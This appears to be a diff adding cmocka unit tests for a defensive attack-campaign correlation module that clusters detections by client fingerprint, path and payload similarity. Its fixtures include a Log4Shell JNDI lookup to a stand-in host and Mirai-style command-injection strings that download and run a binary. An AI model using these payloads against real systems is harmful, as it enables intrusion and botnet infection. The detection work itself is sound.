@@ -1,0 +1,305 @@
+// SPDX-License-Identifier: Apache-2.0
+#include "hub/campaign/campaign.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <string.h>
+#include <cmocka.h>
+
+#include "base/compiler.h"
+
+#define SECOND INT64_C(1000000)
+#define START  (INT64_C(1790000000) * SECOND)
+
+static const char browser[] = "t13d1516h2_8daaf6152771_b186095e22b6";
+static const char tool[] = "t13d190900_9dc949149365_97f8aa674fd9";
+static const char other_tool[] = "t12d010000_aaaaaaaaaaaa_bbbbbbbbbbbb";
+
+static struct ip_addr addr_of(const char *text)
+{
+	struct ip_addr addr;
+
+	assert_int_equal(ip_addr_parse(bytes_from_str(text), &addr), 0);
+	return addr;
+}
+
+/* A hundred thousand requests: nearly all with one browser, to many paths and ports, from everywhere. */
+static struct campaigns *start(uint32_t groups_max)
+{
+	const struct siphash_key key = { 7, 8 };
+	struct campaign_limits limits;
+	struct campaigns *campaigns;
+
+	campaign_limits_default(&limits);
+	limits.groups_max = groups_max;
+	campaigns = campaigns_new(&limits, key);
+	assert_non_null(campaigns);
+	for (uint32_t i = 0; i < 1000; i++) {
+		struct campaign_detection seen = {
+			.ja4 = bytes_from_str(browser), .port = i % 2 ? 443 : 8443, .rule = 1 + i % 3
+		};
+		struct minhash payload;
+		char path[32], text[64];
+
+		snprintf(path, sizeof(path), "/page/%u", i % 10);
+		snprintf(text, sizeof(text), "page=%c&word=%c", 'a' + i % 26, 'a' + i % 7);
+		assert_true(minhash_of(bytes_from_str(text), &payload));
+		seen.path = bytes_from_str(path);
+		seen.payload = &payload;
+		seen.source = ip_addr_v4((const uint8_t[]){ 10, (uint8_t)(i >> 8), (uint8_t)i, 1 });
+		seen.as_number = 1 + i % 20;
+		campaign_traffic(campaigns, &seen, 100);
+	}
+	return campaigns;
+}
+
+static struct campaign_result add(struct campaigns *campaigns, uint32_t tenant, const char *source, const char *ja4,
+	const char *path, const char *payload)
+{
+	struct campaign_detection detection = { .time_us = START + tenant * SECOND,
+		.tenant = tenant,
+		.group = tenant,
+		.source = addr_of(source),
+		.ja4 = bytes_from_str(ja4),
+		.path = bytes_from_str(path),
+		.port = 8443 };
+	struct campaign_result result;
+	struct minhash signature;
+
+	if (payload && minhash_of(bytes_from_str(payload), &signature))
+		detection.payload = &signature;
+	assert_int_equal(campaign_add(campaigns, &detection, &result), 0);
+	return result;
+}
+
+static void two_groups_and_three_sources_make_a_campaign(void **state)
+{
+	struct campaigns *campaigns = start(100);
+	struct campaign_result result;
+	uint32_t id, list[4];
+
+	result = add(campaigns, 1, "203.0.113.1", tool, "/vpn/login", NULL);
+	assert_false(result.joined || result.campaign);
+	id = result.id;
+	result = add(campaigns, 1, "198.51.100.2", tool, "/vpn/login", NULL);
+	assert_true(result.joined && result.id == id && !result.campaign);
+	result = add(campaigns, 1, "192.0.2.3", tool, "/vpn/login", NULL);
+	assert_true(result.joined && !result.campaign); /* three sources, one group */
+	assert_int_equal(campaign_list(campaigns, list, 4), 0);
+	result = add(campaigns, 2, "192.0.2.3", tool, "/vpn/login", NULL);
+	assert_true(result.campaign && result.confirmed_now && !result.fingerprint);
+	assert_true(campaign_list(campaigns, list, 4) == 1 && list[0] == id);
+	/* A source nobody saw, at a tenant nobody hit: its first hit shows client and doing. */
+	result = add(campaigns, 3, "100.64.0.9", tool, "/vpn/login", NULL);
+	assert_true(result.fingerprint && result.id == id && !result.confirmed_now);
+	/* The same source again is no news, nor is one that shows half of the pair. */
+	assert_false(add(campaigns, 3, "100.64.0.9", tool, "/vpn/login", NULL).fingerprint);
+	assert_false(add(campaigns, 3, "100.64.0.10", tool, "/page/1", NULL).fingerprint);
+	assert_false(add(campaigns, 3, "100.64.0.11", browser, "/vpn/login", NULL).fingerprint);
+	campaigns_free(campaigns);
+}
+
+static void what_everybody_shows_ties_nobody(void **state)
+{
+	struct campaigns *campaigns = start(100);
+	struct campaigns_stats stats;
+	char source[32];
+
+	for (uint32_t i = 0; i < 50; i++) {
+		snprintf(source, sizeof(source), "10.%u.7.1", i);
+		assert_false(add(campaigns, 1 + i % 5, source, browser, "/page/1", NULL).joined);
+	}
+	campaigns_stats(campaigns, &stats);
+	assert_true(stats.groups == 50 && stats.confirmed == 0);
+	campaigns_free(campaigns);
+}
+
+static void one_family_alone_ties_nothing(void **state)
+{
+	struct campaigns *campaigns = start(100);
+
+	add(campaigns, 1, "203.0.113.1", browser, "/vpn/login", "x=${jndi:ldap://evil.example/a}");
+	/* Path and payload are of one family. */
+	assert_false(
+		add(campaigns, 2, "198.51.100.1", browser, "/vpn/login", "x=${jndi:ldap://evil.example/a}").joined);
+	/* Address, network and AS are as well. */
+	assert_false(add(campaigns, 2, "203.0.113.1", browser, "/page/2", NULL).joined);
+	/* Network and doing are two. */
+	assert_true(add(campaigns, 2, "203.0.113.9", browser, "/vpn/login", NULL).joined);
+	campaigns_free(campaigns);
+}
+
+static void changed_payloads_are_recognised(void **state)
+{
+	static const char *const payloads[] = {
+		"cmd=wget http://203.0.113.5/bins/mirai.arm7 -O /tmp/.x; chmod 777 /tmp/.x; /tmp/.x selfrep.router; rm "
+		"-rf /tmp/.x",
+		"cmd=wget http://198.51.100.77/bins/mirai.arm5 -O /tmp/.y; chmod 777 /tmp/.y; /tmp/.y selfrep.router; "
+		"rm -rf /tmp/.y",
+		"CMD=wget  http://192.0.2.1/bins/mirai.arm6 -O /tmp/.x; chmod 755 /tmp/.x; /tmp/.x selfrep.router; rm "
+		"-rf /tmp/.x",
+	};
+	struct campaigns *campaigns = start(100);
+	struct campaign_info info;
+	struct campaign_result result = { 0 };
+	char path[32], source[32];
+
+	for (size_t i = 0; i < ARRAY_COUNT(payloads); i++) {
+		snprintf(path, sizeof(path), "/setup%zu.cgi", i);
+		snprintf(source, sizeof(source), "203.0.%zu.1", 100 + i);
+		result = add(campaigns, 1 + (uint32_t)i, source, tool, path, payloads[i]);
+		assert_int_equal(result.joined, i != 0);
+	}
+	assert_true(result.confirmed_now);
+	assert_int_equal(campaign_find(campaigns, result.id, &info), 0);
+	assert_true(info.sources == 3 && info.tenants == 3 && info.tie_count >= 2);
+	result = add(campaigns, 9, "198.18.0.1", other_tool, "/setup.cgi", payloads[0]);
+	assert_false(result.joined);
+	campaigns_free(campaigns);
+}
+
+static void groups_that_prove_to_be_one_are_merged(void **state)
+{
+	struct campaigns *campaigns = start(100);
+	struct campaign_result first, second, both;
+	struct campaigns_stats stats;
+	struct campaign_info info;
+
+	/* Nothing in common but two halves of what comes later. */
+	first = add(campaigns, 1, "203.0.113.1", tool, "/a/login", NULL);
+	second = add(campaigns, 2, "203.0.113.2", other_tool, "/b/login", NULL);
+	assert_int_not_equal(first.id, second.id);
+	both = add(campaigns, 3, "203.0.113.3", tool, "/b/login", NULL);
+	assert_true(both.joined && both.id == first.id && both.confirmed_now);
+	campaigns_stats(campaigns, &stats);
+	assert_true(stats.merged == 1 && stats.groups == 1);
+	assert_int_equal(campaign_find(campaigns, first.id, &info), 0);
+	assert_true(info.detections == 3 && info.sources == 3 && info.tenants == 3);
+	assert_int_equal(campaign_find(campaigns, second.id, &info), LUYTRE_E_NOT_FOUND);
+	campaigns_free(campaigns);
+}
+
+static void campaigns_explain_themselves(void **state)
+{
+	struct campaigns *campaigns = start(100);
+	struct campaign_result result = { 0 };
+	struct campaign_cell cells[8];
+	char text[1024], small[16];
+	uint64_t more;
+
+	for (uint32_t i = 1; i <= 3; i++) {
+		char source[32];
+
+		snprintf(source, sizeof(source), "203.0.%u.1", i);
+		result = add(campaigns, i, source, tool, "/vpn/login", NULL);
+	}
+	assert_int_equal(campaign_explain(campaigns, result.id, LUYTRE_LANG_EN, text, sizeof(text)), 0);
+	assert_string_equal(text,
+		"Campaign 1: 3 sources hit 2-4 organisations since 2026-09-21 14:13 UTC; what ties them: the client "
+		"fingerprint t13d190900_9dc949149365_97f8aa674fd9 (16.6 bit); the path /vpn/login (16.6 bit).");
+	assert_int_equal(campaign_explain(campaigns, result.id, LUYTRE_LANG_VI, text, sizeof(text)), 0);
+	assert_string_equal(text,
+		"Chiến dịch 1: 3 nguồn tấn công 2-4 tổ chức từ 2026-09-21 14:13 UTC; điểm chung: dấu vân máy khách "
+		"t13d190900_9dc949149365_97f8aa674fd9 (16.6 bit); đường dẫn /vpn/login (16.6 bit).");
+	assert_int_equal(campaign_explain(campaigns, result.id, LUYTRE_LANG_EN, small, sizeof(small)), LUYTRE_E_FULL);
+	assert_int_equal(campaign_explain(campaigns, 99, LUYTRE_LANG_EN, text, sizeof(text)), LUYTRE_E_NOT_FOUND);
+
+	assert_int_equal(campaign_matrix(campaigns, result.id, cells, 8, &more), 3);
+	assert_true(more == 0 && cells[0].tenant == 1 && cells[2].tenant == 3 && cells[0].count == 1);
+	assert_int_equal(campaign_matrix(campaigns, result.id, cells, 2, &more), 2);
+	assert_int_equal(more, 1);
+	campaigns_free(campaigns);
+}
+
+static void the_next_victims_look_like_the_last(void **state)
+{
+	static const struct campaign_profile profiles[] = {
+		{ .tenant = 1, .sector = 7, .ports = { 8443 }, .tags = 3 },
+		{ .tenant = 2, .sector = 7, .ports = { 8443 }, .tags = 1 },
+		{ .tenant = 10, .sector = 9, .ports = { 22 } }, /* nothing in common */
+		{ .tenant = 11, .sector = 9, .ports = { 22, 8443 } }, /* the service */
+		{ .tenant = 12, .sector = 7, .ports = { 8443 }, .tags = 1 }, /* all */
+		{ .tenant = 13, .sector = 7 }, /* the sector */
+	};
+	struct campaigns *campaigns = start(100);
+	struct campaign_likely next[8];
+	struct campaign_result result;
+
+	add(campaigns, 1, "203.0.113.1", tool, "/vpn/login", NULL);
+	add(campaigns, 1, "203.0.114.1", tool, "/vpn/login", NULL);
+	result = add(campaigns, 2, "203.0.115.1", tool, "/vpn/login", NULL);
+	assert_int_equal(campaign_next(campaigns, result.id, profiles, ARRAY_COUNT(profiles), next, 8), 3);
+	assert_true(next[0].tenant == 12 && next[0].score > 0.99 && next[0].same_service && next[0].same_sector);
+	assert_true(next[1].tenant == 11 && next[1].same_service && !next[1].same_sector);
+	assert_true(next[2].tenant == 13 && !next[2].same_service && next[2].same_sector);
+	assert_int_equal(campaign_next(campaigns, result.id, profiles, ARRAY_COUNT(profiles), next, 1), 1);
+	assert_int_equal(next[0].tenant, 12);
+	assert_int_equal(campaign_next(campaigns, 99, profiles, ARRAY_COUNT(profiles), next, 8), 0);
+	campaigns_free(campaigns);
+}
+
+static void memory_is_bounded_and_campaigns_stay_longest(void **state)
+{
+	struct campaigns *campaigns = start(20);
+	struct campaign_result result = { 0 };
+	struct campaigns_stats stats;
+	struct campaign_info info;
+	char source[32], path[32];
+
+	for (uint32_t i = 1; i <= 3; i++) {
+		snprintf(source, sizeof(source), "203.0.%u.1", i);
+		result = add(campaigns, i, source, tool, "/vpn/login", NULL);
+	}
+	for (uint32_t i = 0; i < 3000; i++) {
+		snprintf(source, sizeof(source), "11.%u.%u.1", i / 200, i % 200);
+		snprintf(path, sizeof(path), "/x%u", i);
+		add(campaigns, 50 + i % 9, source, browser, path, NULL);
+	}
+	campaigns_stats(campaigns, &stats);
+	assert_true(stats.groups == 20 && stats.evicted == 3001 - 20);
+	assert_int_equal(campaign_find(campaigns, result.id, &info), 0);
+	assert_true(add(campaigns, 4, "203.0.99.1", tool, "/vpn/login", NULL).fingerprint);
+	campaigns_tick(campaigns, START + INT64_C(8) * 86400 * SECOND);
+	campaigns_stats(campaigns, &stats);
+	assert_true(stats.groups == 1 && stats.confirmed == 1);
+	campaigns_tick(campaigns, START + INT64_C(29) * 86400 * SECOND);
+	campaigns_stats(campaigns, &stats);
+	assert_true(stats.groups == 0 && stats.confirmed == 0);
+	campaigns_free(campaigns);
+	campaigns_free(NULL);
+}
+
+static void bad_detections_are_refused(void **state)
+{
+	struct campaigns *campaigns = start(20);
+	struct campaign_detection detection = { .tenant = 1 };
+	struct campaign_result result;
+
+	assert_int_equal(campaign_add(campaigns, &detection, &result), LUYTRE_E_INVALID);
+	detection.source = addr_of("192.0.2.1");
+	detection.tenant = 0;
+	assert_int_equal(campaign_add(campaigns, &detection, &result), LUYTRE_E_INVALID);
+	detection.tenant = 1;
+	assert_int_equal(campaign_add(campaigns, &detection, &result), 0);
+	campaigns_free(campaigns);
+}
+
+int main(void)
+{
+	static const struct CMUnitTest tests[] = {
+		cmocka_unit_test(two_groups_and_three_sources_make_a_campaign),
+		cmocka_unit_test(what_everybody_shows_ties_nobody),
+		cmocka_unit_test(one_family_alone_ties_nothing),
+		cmocka_unit_test(changed_payloads_are_recognised),
+		cmocka_unit_test(groups_that_prove_to_be_one_are_merged),
+		cmocka_unit_test(campaigns_explain_themselves),
+		cmocka_unit_test(the_next_victims_look_like_the_last),
+		cmocka_unit_test(memory_is_bounded_and_campaigns_stay_longest),
+		cmocka_unit_test(bad_detections_are_refused),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
